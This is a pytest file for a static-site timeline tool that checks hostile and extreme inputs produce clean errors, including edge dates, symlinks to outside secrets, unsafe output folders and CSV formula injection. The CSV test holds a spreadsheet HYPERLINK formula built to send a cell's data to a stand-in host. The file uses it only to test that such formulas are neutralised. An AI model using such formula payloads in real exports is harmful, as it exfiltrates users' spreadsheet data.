"""The reproductions of issue 11 through the real command line: each hostile or extreme
input gives a clean error naming the file (and line) or a correct build, never a traceback;
nothing from outside the site is published and nothing of the site is deleted."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from sitekit import annals, read_json, tree_bytes


def site_with(root: Path, articles: dict[str, str], site_yaml: str = "title: Edge cases\n") -> Path:
    folder = root / "content" / "articles"
    folder.mkdir(parents=True)
    for name, text in articles.items():
        (folder / name).write_text(text, encoding="utf-8")
    (root / "site.yaml").write_text(site_yaml, encoding="utf-8")
    return root


def clean(result, code: int = 0) -> str:
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == code, result.stderr
    return result.stderr


# F1: a dateline at the calendar's ends ---------------------------------------------------

@pytest.mark.parametrize("dct, text", [("9999-12-31", "The talks resume next year."),
                                       ("0001-01-01", "They met yesterday.")])
def test_tagger_at_the_ends_of_the_calendar_tags_nothing_it_cannot_name(dct, text):
    result = annals("tag", "--dct", dct, "-", stdin=text)
    clean(result)
    assert json.loads(result.stdout) == {"dct": dct, "timexes": []}  # year 10000, day 0000-12-31


def test_article_dated_9999_12_31_builds(tmp_path: Path):
    site = site_with(tmp_path / "site", {"last.md": "---\ndate: 9999-12-31\n---\nThe council meets tomorrow.\n"})
    clean(annals("build", str(site)))
    data = read_json(site / "output" / "timeline.json")
    assert data["events"] == [] and data["articles"][0]["date"] == "9999-12-31"


# F2: an edge date in the body ---------------------------------------------------------

EDGE_BODY = ("---\ndate: 2025-01-01\n---\nThe deed dates from 9999-12-31.\n\n"
             "A copy dates from 0001-01-01.\n\nAnother is stamped 12/31/9999.\n\n"
             "The council met on Monday.\n")


def test_edge_dates_in_the_body_are_reviewed_not_crashed_on(tmp_path: Path):
    site = site_with(tmp_path / "site", {"deed.md": EDGE_BODY})
    clean(annals("build", str(site)))
    events = read_json(site / "output" / "timeline.json")["events"]
    assert [e["value"] for e in events] == ["2024-12-30"]  # only "on Monday" is on the timeline
    check = annals("check", str(site))
    stderr = clean(check)
    for line, phrase in ((4, "9999-12-31"), (6, "0001-01-01"), (8, "12/31/9999")):
        assert f'content/articles/deed.md:{line}: "{phrase}" is not on the timeline: it falls outside the calendar' \
            in " ".join(stderr.split())
    ics = annals("export", str(site), "--format", "ics")
    clean(ics)
    assert ics.stdout.count("BEGIN:VEVENT") == 1


# F3: an offset datetime at the calendar's ends ------------------------------------------

def test_offset_datetimes_at_the_ends_of_the_calendar_keep_their_written_day(tmp_path: Path):
    site = site_with(tmp_path / "site", {
        "first.md": "---\ndate: 0001-01-01T00:00:00+05:00\n---\nA note.\n",
        "last.md": "---\ndate: 9999-12-31T23:00:00-05:00\n---\nA note.\n",
        "usual.md": "---\ndate: 2025-07-23T23:30:00-05:00\n---\nA note.\n",
    }, "title: Edge\ntimezone: Asia/Tokyo\n")
    clean(annals("build", str(site)))
    dates = {a["slug"]: a["date"] for a in read_json(site / "output" / "timeline.json")["articles"]}
    assert dates == {"first": "0001-01-01", "last": "9999-12-31", "usual": "2025-07-24"}


# F4: tag --jsonl with fields of the wrong type --------------------------------------------

@pytest.mark.parametrize("line, message", [
    ('{"text": false}', 'line 2: "text" is a boolean, not a string'),
    ('{"text": "x", "lang": 5}', "line 2: \"lang\" '5' is not a language code"),
])
def test_jsonl_field_of_the_wrong_type_is_a_clean_error_naming_the_line(line, message):
    result = annals("tag", "--jsonl", "-", stdin='{"id": 1, "text": "It rained yesterday.", "dct": "2025-07-23"}\n'
                    + line + "\n")
    stderr = clean(result, 1)
    assert message in " ".join(stderr.split())
    assert json.loads(result.stdout.splitlines()[0])["timexes"][0]["value"] == "2025-07-22"  # line 1 done


# F5: a 5,000-digit title -----------------------------------------------------------------

def test_a_5000_digit_title_is_a_title(tmp_path: Path):
    digits = "7" * 5000
    site = site_with(tmp_path / "site", {"n.md": f"---\ntitle: {digits}\ndate: 2025-07-23\n---\nA note.\n"})
    clean(annals("build", str(site)))
    assert read_json(site / "output" / "timeline.json")["articles"][0]["title"] == digits


def test_an_impossible_date_names_its_own_line(tmp_path: Path):
    site = site_with(tmp_path / "site", {"n.md": "---\ntitle: A\nsource: B\ndate: 2025-13-45\n---\nA note.\n"})
    stderr = clean(annals("build", str(site)), 1)
    assert "content/articles/n.md:4: front matter has an impossible date" in stderr


# F7: links out of the site ------------------------------------------------------------------

def test_links_to_files_and_folders_outside_are_skipped_with_a_warning(tmp_path: Path):
    outside = tmp_path / "outside"
    (outside / "folder").mkdir(parents=True)
    secret = "SECRET-7f3a the launch codes"
    (outside / "secret.md").write_text(f"---\ndate: 2025-07-23\n---\n{secret} were read on Monday.\n")
    (outside / "folder" / "more.md").write_text(f"{secret} again.\n")
    (outside / "leak.css").write_text(f"/* {secret} */")
    site = site_with(tmp_path / "site", {"real.md": "---\ndate: 2025-07-23\n---\nThe army said on Monday it left.\n"},
                     "title: Links\ntheme: mine\n")
    articles = site / "content" / "articles"
    (articles / "p.md").symlink_to(outside / "secret.md")
    (articles / "linked").symlink_to(outside / "folder", target_is_directory=True)
    theme = site / "themes" / "mine"
    (theme / "static").mkdir(parents=True)
    (theme / "templates").mkdir()
    (theme / "static" / "leak.css").symlink_to(outside / "leak.css")
    stderr = " ".join(clean(annals("build", str(site))).split())
    for name in ("content/articles/p.md", "content/articles/linked", "themes/mine/static/leak.css"):
        assert f"warning {name}: skipped: is a symbolic link" in stderr
    out = tree_bytes(site / "output")
    assert not [name for name, data in out.items() if b"SECRET-7f3a" in data]
    assert "static/leak.css" not in out
    assert [a["slug"] for a in read_json(site / "output" / "timeline.json")["articles"]] == ["real"]


# F8, F9: the output inside the site's own folders -----------------------------------------

@pytest.mark.parametrize("inside, force", [("content/articles", True), ("content/articles/out", False),
                                           ("content", True), ("themes", True), ("themes/x", False)])
def test_output_inside_content_or_themes_is_refused_even_with_force(tmp_path: Path, inside: str, force: bool):
    site = site_with(tmp_path / "site", {"a.md": "---\ndate: 2025-07-23\n---\nThe army said on Monday it left.\n"})
    (site / "themes").mkdir()
    before = tree_bytes(site)
    result = annals("build", str(site), "-o", str(site / inside), *(["--force"] if force else []))
    stderr = " ".join(clean(result, 1).split())
    assert "the output folder" in stderr and ("content/ folder" in stderr or "themes/ folder" in stderr)
    assert tree_bytes(site) == before  # nothing deleted, nothing written


@pytest.mark.parametrize("force", [False, True])
def test_output_equal_to_the_site_is_refused_even_with_force(tmp_path: Path, force: bool):
    site = site_with(tmp_path / "site", {"a.md": "---\ndate: 2025-07-23\n---\nThe army said on Monday it left.\n"})
    before = tree_bytes(site)
    result = annals("build", str(site), "-o", str(site), *(["--force"] if force else []))
    assert "would contain the site itself" in " ".join(clean(result, 1).split())
    assert tree_bytes(site) == before


def test_an_old_output_inside_content_is_not_read_as_articles(tmp_path: Path):
    site = site_with(tmp_path / "site", {"a.md": "---\ndate: 2025-07-23\n---\nThe army said on Monday it left.\n"})
    clean(annals("build", str(site), "-o", str(tmp_path / "out")))
    (tmp_path / "out").rename(site / "content" / "articles" / "out")  # made before the rule
    clean(annals("build", str(site)))
    assert [a["slug"] for a in read_json(site / "output" / "timeline.json")["articles"]] == ["a"]


# F13: formulas in CSV cells ---------------------------------------------------------------

def test_csv_cells_never_start_a_formula(tmp_path: Path):
    formula = '=HYPERLINK("http://e.x/?leak="&A1,"click")'
    site = site_with(tmp_path / "site", {"f.md": f"---\ntitle: '{formula}'\nsource: '@SUM(A1:A9)'\n"
                                         "url: https://example.org/f\ndate: 2025-07-23\n---\n"
                                         "-2 soldiers were reported missing on Monday, +3 on Tuesday.\n"})
    result = annals("export", str(site), "--format", "csv")
    clean(result)
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and "'@SUM(A1:A9)" in cells
    assert any(cell.startswith("'-2 soldiers") for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# S2: the output's mode follows the umask ---------------------------------------------------

def test_output_folders_get_the_users_umask(tmp_path: Path):
    site = site_with(tmp_path / "site", {"a.md": "---\ndate: 2025-07-23\n---\nThe army said on Monday it left.\n"})
    previous = os.umask(0o022)
    try:
        clean(annals("build", str(site)))
        clean(annals("build", str(site)))  # the second build swaps a new folder in
    finally:
        os.umask(previous)
    for folder in (site / "output", site / "output" / "articles"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o755, folder
    assert stat.S_IMODE((site / "output" / "index.html").stat().st_mode) == 0o644
